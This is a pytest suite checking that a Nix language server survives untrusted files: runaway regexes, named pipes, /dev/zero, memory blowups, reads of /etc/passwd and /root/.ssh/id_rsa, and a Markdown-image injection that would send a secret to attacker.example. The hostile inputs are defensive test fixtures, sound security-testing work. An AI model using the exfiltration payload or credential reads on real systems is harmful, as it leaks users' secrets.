"""Issue 15's safety findings, each against the real `python -m nixlang lsp` process.

A file from an untrusted checkout must not freeze the server, read the
user's secrets or exhaust the machine, and what the server shows of it must
stay text. Each test opens such a file over stdio (pytest-lsp) and checks:

- a regular expression that backtracks for hours (in C code, holding the
  interpreter lock) does not stop other requests: a hover with a value on
  another file answers while it evaluates, and evaluation goes on after;
- a named pipe is refused with a clear error (and hovering a path to one
  answers); `/dev/zero` is refused, and an evaluation that grows without end
  is stopped by the memory limit in its worker, not in the server;
- `/etc/passwd` and `/root` are forbidden with Nix's restricted-mode message,
  `builtins.currentTime` is absent and `getEnv` gives "";
- an error text or value built to be a Markdown image renders as code;
- every file of nixpkgs' lib opens without an error diagnostic (a few in the
  fast tier, all of them in the slow one; skipped when ../shared is absent).

No assertion is about time: the waits are generous bounds on "answers", so a
loaded machine passes; what is checked is that an answer comes at all.
"""
from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest
import pytest_lsp
from lsprotocol import types
from pygls.uris import to_fs_path
from pytest_lsp import LanguageClient

from conftest import SHARED
from lsp_support import SERVER, assert_no_handler_failed, init_params, open_doc, pos, until
from test_editor_safety import CATASTROPHIC, assert_inert

FIXTURES: Path = Path("/nonexistent")     # set by the `work` fixture: the workspace folder
LIB = SHARED / "nixpkgs-lib" / "lib"
needs_lib = pytest.mark.skipif(not LIB.is_dir(), reason=f"{LIB} (nixpkgs' lib) is missing")

aio = pytest.mark.asyncio(loop_scope="module")

# the budgets only bound a failure: a loaded machine still answers well within them
SETTINGS = {"evaluation": {"enable": True, "timeout": 10, "delay": 0.05}, "hover": {"values": True, "timeout": 2},
            "progress": {"after": 0.1}}
ANSWER = 120.0          # seconds a request may take before the server counts as frozen


@pytest.fixture(scope="module", autouse=True)
def work(tmp_path_factory):
    global FIXTURES
    FIXTURES = tmp_path_factory.mktemp("lsp-safety")
    os.mkfifo(FIXTURES / "pipe")
    os.mkfifo(FIXTURES / "pipe.nix")
    (FIXTURES / "secret.txt").write_text("hunter2\n")
    return FIXTURES


@pytest_lsp.fixture(scope="module", config=SERVER)
async def client(lsp_client: LanguageClient):
    params = init_params({"pynix": SETTINGS}, hover=True, progress=True, diagnostics={"version_support": True})
    folders = [types.WorkspaceFolder(uri=FIXTURES.as_uri(), name="work")]
    if LIB.is_dir():
        folders.append(types.WorkspaceFolder(uri=LIB.parent.as_uri(), name="nixpkgs-lib"))
    params.workspace_folders = folders
    await lsp_client.initialize_session(params)
    yield
    await lsp_client.shutdown_session()


async def answer(coro):
    return await asyncio.wait_for(coro, ANSWER)


async def hover_text(client: LanguageClient, uri: str, p) -> str:
    h = await answer(client.text_document_hover_async(types.HoverParams(
        text_document=types.TextDocumentIdentifier(uri=uri), position=p)))
    return h.contents.value if h is not None else ""


async def hover_until(client: LanguageClient, uri: str, p, fragment: str) -> str:
    """Hover until the text has `fragment`: a value not ready within `hover.timeout`
    is shown by a later hover (it went on in the background)."""
    loop = asyncio.get_running_loop()
    end = loop.time() + ANSWER
    while True:
        md = await hover_text(client, uri, p)
        if fragment in md or loop.time() > end:
            return md
        await asyncio.sleep(0.2)


def outcomes(client: LanguageClient, uri: str) -> list[str]:
    """How the evaluations of `uri` ended, as the server logged them after publishing
    (those cancelled or out of date left out)."""
    head = f"pynix: evaluated {to_fs_path(uri)}: "
    return [m.message[len(head):] for m in client.log_messages if m.message.startswith(head)
            and "cancelled" not in m.message and "out of date" not in m.message]


async def eval_diagnostics(client: LanguageClient, uri: str) -> list:
    """The diagnostics of `uri` once its evaluation has ended and they were published."""
    await until(lambda: outcomes(client, uri), timeout=ANSWER, what=f"the evaluation of {uri}")
    return list(client.diagnostics.get(uri, []))


def outcome_of(client: LanguageClient, uri: str) -> str:
    return outcomes(client, uri)[-1]


def progress_titled(client: LanguageClient, fragment: str) -> list:
    return [r for r in client.progress_reports.values()
            if r and isinstance(r[0], types.WorkDoneProgressBegin) and fragment in r[0].title]


def server_rss(client: LanguageClient) -> int:
    with open(f"/proc/{client._server.pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


# -- freezing ----------------------------------------------------------------------------------------

@aio
async def test_a_catastrophic_regex_freezes_nothing(client: LanguageClient):
    bad = open_doc(client, FIXTURES, CATASTROPHIC + "\n", "regex.nix")
    name = bad.rsplit("/", 1)[1]
    await until(lambda: progress_titled(client, name), timeout=ANSWER, what="the regex's evaluation to run")
    # meanwhile: another file's hover with its evaluated value, and other requests, answer
    text, p = pos("let v = { a = 1; b = [ 2 ]; }; in v$0\n")
    other = open_doc(client, FIXTURES, text, "other.nix")
    md = await hover_until(client, other, p, "(evaluated)")
    assert "**value** (evaluated):\n```nix\n{ a = 1; b = [ 2 ]; }\n```" in md
    syms = await answer(client.text_document_document_symbol_async(types.DocumentSymbolParams(
        text_document=types.TextDocumentIdentifier(uri=bad))))
    assert syms is not None
    # a value that never finishes: its hover answers, and the other value worker serves the next one
    text, p = pos(f"let r$0 = {CATASTROPHIC}; in r\n")
    stuck = open_doc(client, FIXTURES, text, "regexvalue.nix")
    md = await hover_text(client, stuck, p)
    assert "let binding" in md and "(evaluated)" not in md
    text, p = pos("let w$0 = 6 * 7; in w\n")
    md = await hover_until(client, open_doc(client, FIXTURES, text, "after.nix"), p, "(evaluated)")
    assert "**value** (evaluated):\n```nix\n42\n```" in md
    # closing cancels the regex's evaluation: its worker is killed, and evaluation goes on
    for uri in (bad, stuck):
        client.text_document_did_close(types.DidCloseTextDocumentParams(
            text_document=types.TextDocumentIdentifier(uri=uri)))
    later = open_doc(client, FIXTURES, '{ a = 1 + "x"; }\n', "later.nix")
    ds = await eval_diagnostics(client, later)
    assert [d.code for d in ds] == ["E200"]
    assert_no_handler_failed(client)


# -- pipes, devices, memory -----------------------------------------------------------------------------

@aio
async def test_a_named_pipe_is_refused(client: LanguageClient):
    uri = open_doc(client, FIXTURES, "builtins.readFile ./pipe\n", "fifo.nix")
    (d,) = await eval_diagnostics(client, uri)
    assert d.message.startswith(f"refusing to read '{FIXTURES / 'pipe'}': it is a named pipe (FIFO), "
                                "not a regular file")
    assert d.code == "E200" and d.severity == types.DiagnosticSeverity.Warning
    # the static features do not open it either: hovering a path to a pipe answers
    text, p = pos("import ./pi$0pe.nix\n")
    md = await hover_text(client, open_doc(client, FIXTURES, text, "fifohover.nix"), p)
    assert md.startswith("path `./pipe.nix`")


@aio
async def test_dev_zero_is_refused_and_growth_is_stopped_in_the_worker(client: LanguageClient):
    uri = open_doc(client, FIXTURES, 'builtins.stringLength (builtins.readFile "/dev/zero")\n', "zero.nix")
    (d,) = await eval_diagnostics(client, uri)
    assert d.message.startswith("access to absolute path '/dev/zero' is forbidden in restricted mode")
    before = server_rss(client)
    client.workspace_did_change_configuration(types.DidChangeConfigurationParams(
        settings={"pynix": {"evaluation": {"allowedPaths": ["/dev"], "memoryLimitMB": 128}}}))
    try:
        uri = open_doc(client, FIXTURES, 'builtins.stringLength (builtins.readFile "/dev/zero")\n', "zero2.nix")
        (d,) = await eval_diagnostics(client, uri)
        assert d.message.startswith("refusing to read '/dev/zero': it is a character device")
        grow = 'let f = n: s: if n == 0 then s else f (n - 1) (s + s); in builtins.stringLength (f 40 "x")\n'
        uri = open_doc(client, FIXTURES, grow, "grow.nix")
        assert await eval_diagnostics(client, uri) == []
        assert "out of memory" in outcome_of(client, uri)
    finally:
        client.workspace_did_change_configuration(types.DidChangeConfigurationParams(
            settings={"pynix": {"evaluation": {"allowedPaths": [], "memoryLimitMB": 1024}}}))
    # the string grew in the worker, which was replaced: the server itself did not grow
    assert server_rss(client) - before < 64 << 20
    uri = open_doc(client, FIXTURES, "throw \"still here\"\n", "still.nix")
    assert [d.code for d in await eval_diagnostics(client, uri)] == ["E204"]


# -- reading the user's files ------------------------------------------------------------------------------

FORBIDDEN = [
    ("builtins.readFile /etc/passwd", "/etc/passwd"),
    ("builtins.readDir /root", "/root"),
    ('builtins.hashFile "sha256" /etc/passwd', "/etc/passwd"),
    ("import /etc/passwd", "/etc/passwd"),
    ("builtins.readFile /root/.ssh/id_rsa", "/root/.ssh/id_rsa"),
]


@aio
@pytest.mark.parametrize("expr,path", FORBIDDEN)
async def test_files_outside_the_workspace_are_forbidden(client: LanguageClient, expr, path):
    uri = open_doc(client, FIXTURES, expr + "\n", "secret.nix")
    (d,) = await eval_diagnostics(client, uri)
    assert d.message.split("\n")[0] == f"access to absolute path '{path}' is forbidden in restricted mode"


@aio
async def test_values_of_the_outside_world_in_hovers(client: LanguageClient):
    cases = [
        ("let e$0 = builtins.pathExists /root/.ssh; in e\n", "false"),    # Nix: what may not be seen does not exist
        ('let h$0 = builtins.getEnv "HOME"; in h\n', '""'),
        ("let s$0 = builtins.readFile ./secret.txt; in s\n", '"hunter2\\n"'),   # the workspace is readable
    ]
    for text, want in cases:
        text, p = pos(text)
        md = await hover_until(client, open_doc(client, FIXTURES, text, "world.nix"), p, "(evaluated)")
        assert f"**value** (evaluated):\n```nix\n{want}\n```" in md
    text, p = pos("let s$0 = builtins.readFile /etc/passwd; in s\n")
    md = await hover_until(client, open_doc(client, FIXTURES, text, "world.nix"), p, "fails")
    assert "access to absolute path '/etc/passwd' is forbidden in restricted mode" in md
    assert "root:" not in md


@aio
async def test_no_current_time(client: LanguageClient):
    uri = open_doc(client, FIXTURES, "builtins.currentTime\n", "time.nix")
    (d,) = await eval_diagnostics(client, uri)
    assert d.code == "E202" and d.message.startswith("attribute 'currentTime' missing")


# -- injection ---------------------------------------------------------------------------------------

@aio
async def test_an_injection_attempt_renders_as_code(client: LanguageClient):
    text, p = pos('let s = builtins.readFile ./secret.txt;\n'
                  '    e$0 = throw "![x](http://attacker.example/?d=${s})";\n'
                  '    v = "```\\n![y](http://attacker.example/?d=${s})";\n'
                  'in { inherit e v; }\n')
    uri = open_doc(client, FIXTURES, text, "inject.nix")
    md = await hover_until(client, uri, p, "fails")
    assert "![x](http://attacker.example/?d=hunter2" in md
    assert_inert(md)
    p2 = types.Position(line=2, character=5)
    md = await hover_until(client, uri, p2, "(evaluated)")
    assert "**value** (evaluated)" in md
    assert_inert(md)
    # diagnostics are plain text in LSP; the same text as Nix's, nothing rendered
    uri = open_doc(client, FIXTURES, 'throw "![x](http://attacker.example/)"\n', "inject2.nix")
    (d,) = await eval_diagnostics(client, uri)
    assert d.message.startswith("![x](http://attacker.example/)")


# -- nixpkgs' lib -----------------------------------------------------------------------------------

async def open_lib_files(client: LanguageClient, files: list[Path]) -> dict:
    """Open each file (in batches), wait for its evaluation; {file: (diagnostics, outcome)}."""
    out = {}
    for i in range(0, len(files), 16):
        batch = files[i:i + 16]
        uris = []
        for f in batch:
            uri = f.as_uri()
            client.text_document_did_open(types.DidOpenTextDocumentParams(text_document=types.TextDocumentItem(
                uri=uri, language_id="nix", version=1, text=f.read_text(encoding="utf-8"))))
            uris.append(uri)
        for f, uri in zip(batch, uris):
            ds = await eval_diagnostics(client, uri)
            out[f] = (ds, outcome_of(client, uri))
            client.text_document_did_close(types.DidCloseTextDocumentParams(
                text_document=types.TextDocumentIdentifier(uri=uri)))
    return out


def errors_of(found: dict) -> dict:
    return {str(f.relative_to(LIB)): [(d.code, d.message.split("\n")[0]) for d in ds
                                      if d.severity == types.DiagnosticSeverity.Error]
            for f, (ds, _o) in found.items() if any(d.severity == types.DiagnosticSeverity.Error for d in ds)}


SOME_LIB_FILES = ["default.nix", "attrsets.nix", "lists.nix", "strings.nix", "fixed-points.nix", "trivial.nix",
                  "fileset/default.nix", "systems/default.nix", "services/test.nix", "modules.nix"]


@aio
@needs_lib
async def test_nixpkgs_lib_files_open_without_errors(client: LanguageClient):
    found = await open_lib_files(client, [LIB / f for f in SOME_LIB_FILES])
    assert errors_of(found) == {}
    # default.nix is evaluated to the end (the false E204 of a deep evaluation is gone)
    assert found[LIB / "default.nix"][1].startswith("no error")
    assert all("failed inside pynix" not in o for _ds, o in found.values())


@aio
@needs_lib
@pytest.mark.slow
async def test_every_nixpkgs_lib_file_opens_without_errors(client: LanguageClient):
    files = sorted(LIB.rglob("*.nix"))
    found = await open_lib_files(client, files)
    assert len(found) == len(files)
    assert errors_of(found) == {}
    assert all("failed inside pynix" not in o for _ds, o in found.values())
